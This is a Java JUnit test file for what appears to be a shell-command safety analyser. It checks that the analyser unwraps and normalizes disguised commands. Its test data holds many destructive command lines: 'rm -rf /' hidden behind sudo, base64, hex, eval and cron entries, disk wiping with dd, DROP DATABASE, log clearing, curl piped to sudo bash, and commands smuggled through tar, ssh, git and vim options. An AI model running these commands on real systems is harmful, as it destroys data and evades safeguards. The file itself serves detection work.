package dev.caro.core.shell;

import static dev.caro.core.shell.Scripts.only;
import static dev.caro.core.shell.Scripts.parse;
import static dev.caro.core.shell.Scripts.render;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.caro.api.context.ExecutionContext;
import dev.caro.api.context.ShellKind;
import dev.caro.api.shell.Origin;
import dev.caro.api.shell.ShellScript;
import dev.caro.api.shell.SimpleCommand;
import dev.caro.api.shell.Span;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class NormalizerTest {

    /** command line, expected rm line (rendered), expected wrappers, elevated. */
    static Stream<Arguments> wrappers() {
        return Stream.of(
                Arguments.of("sudo rm -rf /", List.of("sudo"), true),
                Arguments.of("sudo -u root -E -- rm -rf /", List.of("sudo"), true),
                Arguments.of("sudo --user=root -i rm -rf /", List.of("sudo"), true),
                Arguments.of("doas -u root rm -rf /", List.of("doas"), true),
                Arguments.of("pkexec --user root rm -rf /", List.of("pkexec"), true),
                Arguments.of("env -i -u PATH LC_ALL=C rm -rf /", List.of("env"), false),
                Arguments.of("env -- rm -rf /", List.of("env"), false),
                Arguments.of("command rm -rf /", List.of("command"), false),
                Arguments.of("builtin rm -rf /", List.of("builtin"), false),
                Arguments.of("exec -a name rm -rf /", List.of("exec"), false),
                Arguments.of("nohup rm -rf /", List.of("nohup"), false),
                Arguments.of("nice -n 19 rm -rf /", List.of("nice"), false),
                Arguments.of("nice -10 rm -rf /", List.of("nice"), false),
                Arguments.of("ionice -c3 rm -rf /", List.of("ionice"), false),
                Arguments.of("ionice -c 2 -n 7 rm -rf /", List.of("ionice"), false),
                Arguments.of("time -p rm -rf /", List.of("time"), false),
                Arguments.of("timeout 10 rm -rf /", List.of("timeout"), false),
                Arguments.of("timeout -s KILL -k 5 1m rm -rf /", List.of("timeout"), false),
                Arguments.of("timeout --signal=TERM 30s rm -rf /", List.of("timeout"), false),
                Arguments.of("stdbuf -oL -e 0 rm -rf /", List.of("stdbuf"), false),
                Arguments.of("busybox rm -rf /", List.of("busybox"), false),
                Arguments.of("chroot /mnt rm -rf /", List.of("chroot"), false),
                Arguments.of("strace -f -o trace.txt rm -rf /", List.of("strace"), false),
                Arguments.of("setsid nohup rm -rf /", List.of("setsid", "nohup"), false),
                Arguments.of("coproc rm -rf /", List.of("coproc"), false),
                Arguments.of("sudo -E nice -n 5 timeout 60 env X=1 rm -rf /",
                        List.of("sudo", "nice", "timeout", "env"), true));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("wrappers")
    void stripsWrappersWithTheirOptions(String text, List<String> wrappers, boolean elevated) {
        ShellScript s = parse(text);
        assertTrue(s.parsed());
        SimpleCommand rm = only(s, "rm");
        assertEquals("direct: rm [-rf] [/]", render(rm));
        assertEquals(wrappers, rm.wrappers());
        assertEquals(elevated, rm.elevated());
        assertEquals(0, rm.depth());
    }

    static Stream<Arguments> notWrapping() {
        return Stream.of(
                Arguments.of("command -v rm", "direct: command [-v] [rm]"),
                Arguments.of("sudo -l", "direct: sudo [-l]"),
                Arguments.of("sudo -i", "direct: sudo [-i]"),
                Arguments.of("nice", "direct: nice"),
                Arguments.of("env", "direct: env"),
                Arguments.of("ionice -p 123", "direct: ionice [-p] [123]"),
                Arguments.of("timeout 5", "direct: timeout [5]"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("notWrapping")
    void leavesWrappersAloneWhenTheyRunNothing(String text, String expected) {
        assertEquals(List.of(expected), render(parse(text)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("disguises")
    void reducesDisguisedNames(String text) {
        ShellScript s = parse(text);
        assertTrue(s.parsed(), text);
        assertEquals("direct: rm [-rf] [/]", render(s.commands().get(s.commands().size() - 1)));
    }

    static Stream<String> disguises() {
        return Stream.of("/bin/rm -rf /", "/usr/bin/rm -rf /", "\\rm -rf /", "\"rm\" -rf /", "'rm' -rf /",
                "r''m -rf /", "r\"\"m -rf /", "$'\\x72m' -rf /", "$'\\162m' -rf /", "$'\\u0072m' -rf /",
                "r\\m -rf /", "./../../bin/rm -rf /", "X=rm; $X -rf /", "C=\"rm -rf\"; $C /");
    }

    static Stream<Arguments> unfolding() {
        return Stream.of(
                Arguments.of("bash -c 'rm -rf /'", Origin.SHELL_STRING, List.of("direct: bash [-c] [rm -rf /]", "shell_string: rm [-rf] [/]")),
                Arguments.of("sh -xec \"rm -rf /\" arg0", Origin.SHELL_STRING, List.of("direct: sh [-xec] [rm -rf /] [arg0]", "shell_string: rm [-rf] [/]")),
                Arguments.of("zsh -lc 'cd / && rm -rf *'", Origin.SHELL_STRING,
                        List.of("direct: zsh [-lc] [cd / && rm -rf *]", "shell_string: cd [/]", "shell_string: rm [-rf] [*]")),
                Arguments.of("find / -exec sh -c 'rm -rf \"$1\"' _ {} \\;", Origin.FIND_EXEC,
                        List.of("direct: find [/] [-exec] [sh] [-c] [rm -rf \"$1\"] [_] [{}] [;]",
                                "find_exec: sh [-c] [rm -rf \"$1\"] [_] [/]", "shell_string: rm [-rf] [/]")),
                Arguments.of("eval \"rm -rf\" /", Origin.EVAL, List.of("direct: eval [rm -rf] [/]", "eval: rm [-rf] [/]")),
                Arguments.of("find / -exec rm -rf {} \\;", Origin.FIND_EXEC,
                        List.of("direct: find [/] [-exec] [rm] [-rf] [{}] [;]", "find_exec: rm [-rf] [/]")),
                Arguments.of("find . -name '*.tmp' -execdir rm -f {} +", Origin.FIND_EXEC,
                        List.of("direct: find [.] [-name] [*.tmp] [-execdir] [rm] [-f] [{}] [+]", "find_exec: rm [-f] [./{}]")),
                Arguments.of("find /var -ok sudo rm {} ';'", Origin.FIND_EXEC,
                        List.of("direct: find [/var] [-ok] [sudo] [rm] [{}] [;]", "find_exec: rm [/var]")),
                Arguments.of("ls | xargs -0 -n 1 rm -rf", Origin.XARGS, List.of("direct: ls", "xargs: rm [-rf]")),
                Arguments.of("echo /etc | xargs rm -rf", Origin.XARGS, List.of("direct: echo [/etc]", "xargs: rm [-rf] [/etc]")),
                Arguments.of("find / -type f | xargs -I{} rm -f {}", Origin.XARGS,
                        List.of("direct: find [/] [-type] [f]", "xargs: rm [-f] [/{}]")),
                Arguments.of("ssh -p 22 -i key admin@web 'rm -rf /var/www'", Origin.REMOTE,
                        List.of("direct: ssh [-p] [22] [-i] [key] [admin@web] [rm -rf /var/www]", "remote: rm [-rf] [/var/www]")),
                Arguments.of("ssh deploy@web -p 2222 -t 'sudo reboot'", Origin.REMOTE,
                        List.of("direct: ssh [deploy@web] [-p] [2222] [-t] [sudo reboot]", "remote: reboot")),
                Arguments.of("ssh host rm -rf /data", Origin.REMOTE,
                        List.of("direct: ssh [host] [rm] [-rf] [/data]", "remote: rm [-rf] [/data]")),
                Arguments.of("su - root -c 'rm -rf /'", Origin.SHELL_STRING,
                        List.of("direct: su [-] [root] [-c] [rm -rf /]", "shell_string: rm [-rf] [/]")),
                Arguments.of("watch -n 5 'rm -rf /tmp/x'", Origin.SHELL_STRING,
                        List.of("direct: watch [-n] [5] [rm -rf /tmp/x]", "shell_string: rm [-rf] [/tmp/x]")),
                Arguments.of("docker compose -f prod.yml exec -T web python manage.py flush --noinput", Origin.REMOTE,
                        List.of("direct: docker [compose] [-f] [prod.yml] [exec] [-T] [web] [python] [manage.py] [flush] [--noinput]",
                                "remote: python [manage.py] [flush] [--noinput]")),
                Arguments.of("docker-compose run --rm -e X=1 app rails db:drop", Origin.REMOTE,
                        List.of("direct: docker-compose [run] [--rm] [-e] [X=1] [app] [rails] [db:drop]", "remote: rails [db:drop]")),
                Arguments.of("git submodule foreach --recursive 'git reset --hard'", Origin.SHELL_STRING,
                        List.of("direct: git [submodule] [foreach] [--recursive] [git reset --hard]", "shell_string: git [reset] [--hard]")),
                Arguments.of("git submodule --quiet foreach git clean -fdx", Origin.SHELL_STRING,
                        List.of("direct: git [submodule] [--quiet] [foreach] [git] [clean] [-fdx]", "shell_string: git [clean] [-fdx]")),
                Arguments.of("echo 'rm -rf /' | sh", Origin.PIPED_SCRIPT,
                        List.of("direct: echo [rm -rf /]", "direct: sh", "piped_script: rm [-rf] [/]")),
                Arguments.of("printf 'cd /\\nrm -rf *\\n' | bash -s", Origin.PIPED_SCRIPT,
                        List.of("direct: printf [cd /\\nrm -rf *\\n]", "direct: bash [-s]", "piped_script: cd [/]", "piped_script: rm [-rf] [*]")),
                Arguments.of("bash <<'EOF'\nrm -rf /\nEOF", Origin.PIPED_SCRIPT, List.of("direct: bash", "piped_script: rm [-rf] [/]")),
                Arguments.of("sh <<< 'rm -rf /'", Origin.PIPED_SCRIPT, List.of("direct: sh", "piped_script: rm [-rf] [/]")),
                Arguments.of("echo cm0gLXJmIC8= | base64 -d | sh", Origin.PIPED_SCRIPT,
                        List.of("direct: echo [cm0gLXJmIC8=]", "direct: base64 [-d]", "direct: sh", "piped_script: rm [-rf] [/]")),
                Arguments.of("echo '/ fr- mr' | rev | sh", Origin.PIPED_SCRIPT,
                        List.of("direct: echo [/ fr- mr]", "direct: rev", "direct: sh", "piped_script: rm [-rf] [/]")),
                Arguments.of("bash -c \"$(echo cm0gLXJmIH4= | base64 -d)\"", Origin.SHELL_STRING,
                        List.of("substitution: echo [cm0gLXJmIH4=]", "substitution: base64 [-d]",
                                "direct: bash [-c] [rm -rf ~]", "shell_string: rm [-rf] [/home/user]")),
                Arguments.of("xxd -r -p <<< 726d202d7266202f | sh", Origin.PIPED_SCRIPT,
                        List.of("direct: xxd [-r] [-p]", "direct: sh", "piped_script: rm [-rf] [/]")),
                Arguments.of("echo 'rm -rf /' | sudo -s", Origin.PIPED_SCRIPT,
                        List.of("direct: echo [rm -rf /]", "direct: sudo [-s]", "piped_script: rm [-rf] [/]")),
                Arguments.of("su - <<EOF\nrm -rf /\nEOF", Origin.PIPED_SCRIPT,
                        List.of("direct: su [-]", "piped_script: rm [-rf] [/]")),
                Arguments.of("parallel -j 4 rm -rf {} ::: /etc /usr", Origin.XARGS,
                        List.of("direct: parallel [-j] [4] [rm] [-rf] [{}] [:::] [/etc] [/usr]", "xargs: rm [-rf] [/etc]")),
                Arguments.of("echo $(rm -rf /)", Origin.SUBSTITUTION, List.of("substitution: rm [-rf] [/]", "direct: echo [$(rm -rf /)]")),
                Arguments.of("perl -e 'system(\"rm -rf /home\")'", Origin.SHELL_STRING,
                        List.of("direct: perl [-e] [system(\"rm -rf /home\")]", "shell_string: rm [-rf] [/home]")),
                Arguments.of("python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/etc\"])'", Origin.SHELL_STRING,
                        List.of("direct: python3 [-c] [import subprocess; subprocess.run([\"rm\", \"-rf\", \"/etc\"])]",
                                "shell_string: rm [-rf] [/etc]")),
                Arguments.of("echo 'import os; os.system(\"reboot\")' | python3", Origin.SHELL_STRING,
                        List.of("direct: echo [import os; os.system(\"reboot\")]", "direct: python3", "shell_string: reboot")),
                Arguments.of("ruby -e '%x(dd if=/dev/zero of=/dev/sda)'", Origin.SHELL_STRING,
                        List.of("direct: ruby [-e] [%x(dd if=/dev/zero of=/dev/sda)]", "shell_string: dd [if=/dev/zero] [of=/dev/sda]")),
                Arguments.of("echo '*/5 * * * * rm -rf ~' | crontab -", Origin.PIPED_SCRIPT,
                        List.of("direct: echo [*/5 * * * * rm -rf ~]", "direct: crontab [-]", "piped_script: rm [-rf] [/home/user]")),
                Arguments.of("echo '@reboot root rm -rf /' | sudo tee -a /etc/cron.d/job", Origin.PIPED_SCRIPT,
                        List.of("direct: echo [@reboot root rm -rf /]", "direct: tee [-a] [/etc/cron.d/job]", "piped_script: rm [-rf] [/]")),
                Arguments.of("printf 'MAILTO=x\\n0 3 * * * root rm -rf /\\n' | sudo tee /etc/crontab", Origin.PIPED_SCRIPT,
                        List.of("direct: printf [MAILTO=x\\n0 3 * * * root rm -rf /\\n]", "direct: tee [/etc/crontab]",
                                "piped_script: rm [-rf] [/]")),
                Arguments.of("kubectl exec -it redis-0 -- redis-cli FLUSHALL", Origin.REMOTE,
                        List.of("direct: kubectl [exec] [-it] [redis-0] [--] [redis-cli] [FLUSHALL]", "remote: redis-cli [FLUSHALL]")),
                Arguments.of("docker exec -u root db psql -c 'DROP DATABASE app'", Origin.REMOTE,
                        List.of("direct: docker [exec] [-u] [root] [db] [psql] [-c] [DROP DATABASE app]",
                                "remote: psql [-c] [DROP DATABASE app]")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("unfolding")
    void unfoldsNestedCommands(String text, Origin origin, List<String> expected) {
        ShellScript s = parse(text);
        assertTrue(s.parsed(), () -> text + ": " + s.parseError());
        assertEquals(expected, render(s));
        SimpleCommand last = s.commands().stream().filter(c -> c.origin() == origin).findFirst().orElseThrow();
        assertEquals(1, last.depth());
    }

    @Test
    void unfoldedCommandsKeepOuterWrappers() {
        SimpleCommand rm = only(parse("sudo bash -c 'rm -rf /'"), "rm");
        assertTrue(rm.elevated());
        assertEquals(List.of("sudo"), rm.wrappers());
        SimpleCommand chmod = only(parse("sudo find / -type d -exec chmod 777 {} +"), "chmod");
        assertTrue(chmod.elevated());
        assertEquals("[777] [/{}]", render(chmod).substring("find_exec: chmod ".length()));
        SimpleCommand viaSu = only(parse("su -c 'rm -rf /'"), "rm");
        assertTrue(viaSu.elevated());
        SimpleCommand viaXargs = only(parse("ls | xargs sudo rm"), "rm");
        assertEquals(List.of("xargs", "sudo"), viaXargs.wrappers());
        assertTrue(viaXargs.elevated());
    }

    @Test
    void nestingIsCountedPerLayer() {
        SimpleCommand rm = only(parse("ssh host \"bash -c 'eval rm -rf /'\""), "rm");
        assertEquals(Origin.EVAL, rm.origin());
        assertEquals(3, rm.depth());
    }

    @Test
    void tracksAssignmentsExportsAndHome() {
        assertEquals("[-rf] [/]", args(only(parse("D=/; rm -rf $D"), "rm")));
        assertEquals("[-rf] [/usr/lib]", args(only(parse("export P=/usr; rm -rf \"$P/lib\""), "rm")));
        assertEquals("[-rf] [/home/user] [/home/user] [/home/user/x]",
                args(only(parse("rm -rf ~ $HOME ${HOME}/x"), "rm")));
        assertEquals("[-rf] [/tmp/tmp.XXXXXXXXXX]", args(only(parse("t=$(mktemp -d) && rm -rf \"$t\""), "rm")));
        // A prefix assignment applies to that command only.
        assertEquals("[-rf] [$D]", args(only(parse("D=/ true; rm -rf $D"), "rm")));
        // Unset makes it empty; an unknown variable keeps its written form.
        assertEquals("[-rf] [/x]", args(only(parse("unset D; rm -rf \"$D/x\""), "rm")));
        SimpleCommand unknown = only(parse("rm -rf \"$BUILD_DIR\"/"), "rm");
        assertEquals("$BUILD_DIR/", unknown.args().get(1).value());
        assertTrue(unknown.args().get(1).unknownExpansion());
        assertFalse(only(parse("rm -rf ./build"), "rm").args().get(1).unknownExpansion());
        // An unknown variable with a default takes the default: what the shell uses when it is unset.
        assertEquals("[-rf] [/home/user/.config]", args(only(parse("${RM:-rm} -rf ~/.config"), "rm")));
        assertEquals("[-rf] [/] [build]", args(only(parse("rm -rf ${DIR-/} \"${OUT:=build}\""), "rm")));
        // ...unless the default needs expanding itself, or the form stops the shell instead (:?).
        assertTrue(only(parse("rm -rf ${DIR:-$X}"), "rm").args().get(1).unknownExpansion());
        assertTrue(only(parse("rm -rf \"${DIR:?unset}\""), "rm").args().get(1).unknownExpansion());
    }

    @Test
    void unfoldsTheBodyOfACmdForLoop() {
        // A POSIX shell reads cmd.exe's loop as a command named for (and its quoted list as a loop of its own).
        assertEquals(List.of("body: 'wevtutil [el']",
                        "direct: for [/F] [tokens=*] [%l] [in] [('wevtutil el')] [do] [wevtutil] [cl] [%l]",
                        "shell_string: wevtutil [cl] [%l]"),
                render(parse("for /F \"tokens=*\" %l in ('wevtutil el') do wevtutil cl \"%l\"")));
    }

    @Test
    void variablesSetInBranchesBecomeUnknown() {
        SimpleCommand rm = only(parse("D=/tmp/x; if test -n \"$1\"; then D=/; fi; rm -rf $D"), "rm");
        assertTrue(rm.args().get(1).unknownExpansion());
        assertEquals(List.of("body: rm [-rf] [/etc]", "body: rm [-rf] [/usr]"),
                render(parse("for d in /etc /usr; do rm -rf $d; done")));
        assertEquals(List.of("body: rm [-f] [*.log]"), render(parse("for f in *.log; do rm -f \"$f\"; done")));
        assertTrue(only(parse("for f in $(ls); do rm \"$f\"; done"), "rm").args().get(0).unknownExpansion());
    }

    @Test
    void tracksTheWorkingDirectory() {
        ShellScript s = parse("cd /tmp/build && rm -rf * && cd .. && ls; cd; pwd; cd $X; rm x; cd -; (cd /; ls)");
        List<Optional<String>> cwds = s.commands().stream().map(SimpleCommand::cwd).toList();
        assertEquals(List.of(Optional.of("/home/user/project"), Optional.of("/tmp/build"), Optional.of("/tmp/build"),
                Optional.of("/tmp"), Optional.of("/tmp"), Optional.of("/home/user"), Optional.of("/home/user"),
                Optional.empty(), Optional.empty(), Optional.empty(), Optional.of("/")), cwds);
        // A cd inside a subshell does not leak out.
        assertEquals(Optional.of("/home/user/project"), only(parse("(cd /); rm x"), "rm").cwd());
    }

    @Test
    void fillsUpstreamStdinAndBackground() {
        ShellScript s = parse("curl -fsSL https://x.example/i.sh | sudo bash -s -- -y &");
        SimpleCommand bash = only(s, "bash");
        assertEquals(List.of("curl"), bash.upstream().stream().map(SimpleCommand::name).toList());
        assertTrue(bash.pipedFrom("curl"));
        assertTrue(bash.background());
        assertTrue(only(s, "curl").background());
        assertEquals(Optional.empty(), bash.stdinText());

        SimpleCommand sh = only(parse("printf '%s\\n' 'reboot' | sh"), "sh");
        assertEquals(Optional.of("reboot\n"), sh.stdinText());
        assertEquals(Optional.of("-o -rf\n"), only(parse("printf '%s %s\\n' -o -rf | sh"), "sh").stdinText());
        // the format is reused while arguments are left
        assertEquals(Optional.of(",d\nw\nq\n"), only(parse("printf '%s\\n' ',d' 'w' 'q' | ed -s f"), "ed").stdinText());
        assertEquals(Optional.of("a b\nc \n"), only(parse("printf '%s %s\\n' a b c | sh"), "sh").stdinText());
        SimpleCommand fdisk = only(parse("printf 'o\\nw\\n' | sudo fdisk /dev/sdb"), "fdisk");
        assertEquals(Optional.of("o\nw\n"), fdisk.stdinText());
        assertFalse(only(parse("ls &"), "ls").upstream().iterator().hasNext());
    }

    @Test
    void parsesPowerShellLinesWithoutShSyntaxErrors() {
        ShellScript s = parse("Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1GB } | Remove-Item -Force");
        assertTrue(s.parsed(), () -> String.valueOf(s.parseError()));
        assertEquals(List.of("direct: Get-ChildItem [-Recurse]", "body: $_.Length [-gt] [1GB]",
                "direct: Where-Object [{ $_.Length -gt 1GB }]",
                "direct: Remove-Item [-Force]"), render(s));
        SimpleCommand rm = only(parse("Remove-Item -Path C:\\Windows\\System32 -Recurse"), "Remove-Item");
        assertEquals("C:\\Windows\\System32", rm.args().get(1).value());
        assertEquals(List.of("body: $true", "body: Start-Process [powershell] [-WindowStyle] [Hidden]",
                "direct: while [($true)] [{ Start-Process powershell -WindowStyle Hidden }]"),
                render(parse("while ($true) { Start-Process powershell -WindowStyle Hidden }")));
        ShellScript loop = parse("foreach ($f in Get-ChildItem *.log) { Remove-Item $f -Force }");
        assertTrue(loop.parsed());
        assertEquals("body: Remove-Item [$f] [-Force]", render(only(loop, "Remove-Item")));
    }

    @Test
    void parsesCmdLinesAndTheCommandsInTheirBlocks() {
        ShellScript s = parse("if exist C:\\build (rd /s /q C:\\build)");
        assertTrue(s.parsed(), () -> String.valueOf(s.parseError()));
        assertEquals("body: rd [/s] [/q] [C:\\build]", render(only(s, "rd")));
        assertTrue(parse("for /f \"tokens=*\" %%i in ('dir /b') do @echo %%i").parsed());
    }

    @Test
    void expandsAliasesDefinedEarlierInTheScript() {
        assertEquals("direct: rm [-rf] [/home/user]", render(only(parse("alias ll='rm -rf ~'\nll"), "rm")));
        // The command's own words follow the alias text; an alias that names itself expands once.
        assertEquals("direct: rm [-rf] [/etc]", render(only(parse("alias del='rm -rf'; del /etc"), "rm")));
        assertEquals("direct: ls [-la] [/tmp]", render(only(parse("alias ls='ls -la'; ls /tmp"), "ls")));
        // An alias can cd; quoted or escaped names and names after unalias are not aliases.
        assertEquals(Optional.of("/"), only(parse("alias up='cd /'; up; rm -rf *"), "rm").cwd());
        assertEquals("direct: ll", render(only(parse("alias ll='rm -rf ~'; \\ll"), "ll")));
        assertEquals("direct: ll", render(only(parse("alias ll='rm -rf ~'; unalias ll; ll"), "ll")));
        assertEquals(List.of("direct: alias [ll=ls -l]"), render(parse("alias ll='ls -l'")));
        // eval runs in the current shell: its aliases and variables hold afterwards.
        assertEquals("direct: rm [-rf] [/home/user]", render(only(parse("eval \"alias x='rm -rf ~'\"; x"), "rm")));
        assertEquals("direct: rm [-rf] [/etc]", render(only(parse("eval \"D=/etc\"; rm -rf $D"), "rm")));
        // $SHELL is a shell.
        assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse("$SHELL -c 'rm -rf ~'"), "rm")));
        // git aliases: a !command runs in the shell, any other value is the git command it stands for.
        assertEquals("eval: rm [-rf] [/home/user]", render(only(parse("git config --global alias.c '!rm -rf ~'; git c"), "rm")));
        assertEquals(List.of("direct: git [config] [alias.c] [!rm -rf ~]"), render(parse("git config alias.c '!rm -rf ~'")));
        assertEquals("eval: git [push] [--force] [origin] [main]",
                render(parse("git config alias.pf 'push --force'; git pf origin main").commands().get(2)));
    }

    @Test
    void readsNuElvishAndXonshCommandsAsWritten() {
        assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse("nu -c 'rm -rf ~'"), "rm")));
        assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse("nu -n -c 'rm -rf ~'"), "rm"))); // -n: no config
        assertEquals("shell_string: rm [-rf] [/]", render(only(parse("xonsh -c 'rm -rf /'"), "rm")));
        assertTrue(parse("nu -c 'ls | where size > 1mb | get name'").parsed());
    }

    @Test
    void readsTheScriptsOfFishAndTheCShells() {
        ShellScript fish = parse("fish -c 'for f in *.md; echo $f; end'");
        assertTrue(fish.parsed(), () -> String.valueOf(fish.parseError()));
        assertEquals("shell_string: echo [$f]", render(only(fish, "echo")));
        assertEquals("shell_string: rm [-rf] [/home/user]",
                render(only(parse("fish -c 'if test -d ~; and true; rm -rf ~; end'"), "rm")));
        assertEquals(List.of("curl"), only(parse("fish -c 'curl -sL https://x.example/p.fish | source'"), "source")
                .upstream().stream().map(SimpleCommand::name).toList());
        assertEquals("shell_string: rm [-rf] [/etc]", render(only(parse("fish -c 'set d /etc; rm -rf $d'"), "rm")));
        assertEquals("substitution: date", render(only(parse("fish -c 'echo (date)'"), "date")));
        assertEquals("shell_string: rm [-rf] [/home/user/*]", render(only(parse("tcsh -c 'rm -rf ~/*'"), "rm")));
        ShellScript csh = parse("csh -c 'foreach f (*.log)\n if (-f $f) rm -rf /var/log\nend'");
        assertTrue(csh.parsed(), () -> String.valueOf(csh.parseError()));
        assertEquals("shell_string: rm [-rf] [/var/log]", render(only(csh, "rm")));
        assertEquals("shell_string: rm [-rf] [/srv]", render(only(parse("tcsh -c 'set d = /srv; rm -rf $d'"), "rm")));
    }

    @Test
    void unfoldsTheLinesCmdPowerShellAndOtherRunnersRun() {
        assertEquals("shell_string: Remove-Item [C:\\Windows] [-Recurse] [-Force]",
                render(only(parse("powershell -NoProfile -Command \"Remove-Item C:\\Windows -Recurse -Force\""), "Remove-Item")));
        // -EncodedCommand is base64 of UTF-16LE text: "Remove-Item C:\Windows -Recurse"
        assertEquals("shell_string: Remove-Item [C:\\Windows] [-Recurse]", render(only(parse(
                "pwsh -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAQwA6AFwAVwBpAG4AZABvAHcAcwAgAC0AUgBlAGMAdQByAHMAZQA="), "Remove-Item")));
        assertEquals("shell_string: rd [/s] [/q] [C:\\Windows]", render(only(parse("cmd /c rd /s /q C:\\Windows"), "rd")));
        assertEquals(List.of("direct: powershell [-File] [build.ps1]"), render(parse("powershell -File build.ps1")));
        assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse("script -qc 'rm -rf ~' /dev/null"), "rm")));
        assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse("flock /tmp/l -c 'rm -rf ~'"), "rm")));
        assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse("sg docker -c 'rm -rf ~'"), "rm")));
        assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse("tmux new-session -d -s x 'rm -rf ~'"), "rm")));
        assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse("tmux send-keys -t main 'rm -rf ~' Enter"), "rm")));
        assertEquals(List.of("direct: tmux [send-keys] [-t] [main] [rm -rf ~]"), render(parse("tmux send-keys -t main 'rm -rf ~'")));
        // Wrappers: screen, unshare, setpriv, flock FILE CMD.
        for (String line : List.of("screen -dmS job rm -rf ~", "unshare -r rm -rf ~", "setpriv --reuid=0 rm -rf ~",
                "flock -w 5 /tmp/l rm -rf ~")) {
            assertEquals("direct: rm [-rf] [/home/user]", render(only(parse(line), "rm")), line);
        }
        assertEquals(List.of("direct: screen [-r] [job]"), render(parse("screen -r job")));
    }

    @Test
    void unfoldsTheCommandsOtherProgramsOptionsRun() {
        for (String line : List.of("tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'",
                "rsync -e 'sh -c \"rm -rf ~\"' x y:", "zip out.zip x -T -TT 'rm -rf ~'", "ssh -o ProxyCommand='rm -rf ~' x",
                "vim -c ':!rm -rf ~' -c q", "gdb -batch -ex 'shell rm -rf ~'", "git -c core.sshCommand='rm -rf ~' fetch",
                "awk 'BEGIN { system(\"rm -rf ~\") }'")) {
            assertEquals("shell_string: rm [-rf] [/home/user]", render(only(parse(line), "rm")), line);
        }
        // Options that carry no command, and awk text that is not a command line, unfold nothing.
        assertEquals(List.of("direct: vim [-c] [set nu] [f.txt]"), render(parse("vim -c 'set nu' f.txt")));
        assertTrue(parse("awk 'BEGIN { system(\"echo \\\"\") }'").parsed());
    }

    @Test
    void readsALineWrittenForFishOrZshInThatShell() {
        ExecutionContext fish = Scripts.CONTEXT.withShell(ShellKind.FISH);
        ShellScript loop = parse("for f in *.md; echo $f; end", fish);
        assertTrue(loop.parsed(), () -> String.valueOf(loop.parseError()));
        assertEquals(List.of("direct: echo [$f]"), render(loop));
        assertEquals("direct: rm [-rf] [/home/user]", render(only(parse("test -d ~; and rm -rf ~", fish), "rm")));
        assertEquals("direct: rm [-rf] [/etc]", render(only(parse("set -l d /etc; rm -rf $d", fish), "rm")));
        // Plain sh text keeps its exact spans; a line no reading can parse stays unparseable.
        assertEquals(new Span(0, 8), only(parse("rm -rf /", fish), "rm").span());
        assertFalse(parse("rm -rf ~ 'oops", fish).parsed());
        ShellScript zsh = parse("rm -f ./*.tmp(N) && ls", Scripts.CONTEXT.withShell(ShellKind.ZSH));
        assertTrue(zsh.parsed(), () -> String.valueOf(zsh.parseError()));
        assertEquals("direct: rm [-f] [./*.tmp]", render(only(zsh, "rm")));
        assertEquals(new Span(20, 22), only(zsh, "ls").span());
        assertFalse(parse("rm -f ./*.tmp(N)").parsed()); // bash has no glob qualifiers
        // zsh's short loops: for NAME (WORDS) BODY
        ExecutionContext zshUser = Scripts.CONTEXT.withShell(ShellKind.ZSH);
        assertEquals(List.of("body: rm [-rf] [/etc]", "body: rm [-rf] [/usr]"), render(parse("for d (/etc /usr) rm -rf $d", zshUser)));
        ShellScript shortLoop = parse("zsh -c 'for f (*.txt) echo $f'");
        assertTrue(shortLoop.parsed(), () -> String.valueOf(shortLoop.parseError()));
        assertFalse(parse("for d (/etc) rm -rf $d").parsed()); // not bash
    }

    @Test
    void dropsZshGlobQualifiersAndRunsNothingUnderDashN() {
        ShellScript zsh = parse("zsh -c 'rm -f ./*.tmp(N)'");
        assertTrue(zsh.parsed(), () -> String.valueOf(zsh.parseError()));
        assertEquals("shell_string: rm [-f] [./*.tmp]", render(only(zsh, "rm")));
        assertEquals("shell_string: rm [-rf] [/*]", render(only(parse("zsh -c 'rm -rf /*(D)'"), "rm")));
        assertEquals("shell_string: rm [-rf] [/etc]", render(only(parse("zsh -c 'rm -rf /etc(N)'"), "rm")));
        // Arrays, functions and substitutions keep their parentheses.
        assertTrue(parse("zsh -c 'x=(a b); f() { echo $x; }; diff <(ls) $(pwd)'").parsed());
        assertEquals("shell_string: echo [(N)]", render(only(parse("zsh -c 'echo \"(N)\"'"), "echo")));
        // sh -n only checks the syntax: nothing in the script runs.
        assertEquals(List.of("direct: bash [-n] [-c] [rm -rf /]"), render(parse("bash -n -c 'rm -rf /'")));
        assertEquals(List.of("direct: echo [rm -rf /]", "direct: sh [-o] [noexec]"), render(parse("echo 'rm -rf /' | sh -o noexec")));
        assertEquals(List.of("direct: echo [rm -rf /]", "direct: sh", "piped_script: rm [-rf] [/]"), render(parse("echo 'rm -rf /' | sh")));
    }

    @Test
    void splitsUnquotedExpansionsAtTheIfsTheScriptSet() {
        assertEquals("direct: rm [-rf] [/opt]", render(only(parse("IFS=,; c=\"rm,-rf,/opt\"; $c"), "rm")));
        assertEquals("direct: rm [-rf] [/opt]", render(only(parse("IFS=$'\\x2c'; c=rm,-rf,/opt; $c"), "rm")));
        assertEquals("direct: rm [-rf] [/srv]", render(only(parse("IFS=\"$IFS,\"; c=\"rm, -rf ,/srv\"; $c"), "rm")));
        assertEquals("direct: rm [-rf] [/etc]", render(only(parse("export IFS=:; a=-rf:/etc; rm $a"), "rm")));
        assertEquals("direct: rm [-rf] [/opt]", render(only(parse("IFS=,; set -- rm,-rf,/opt; $1"), "rm")));
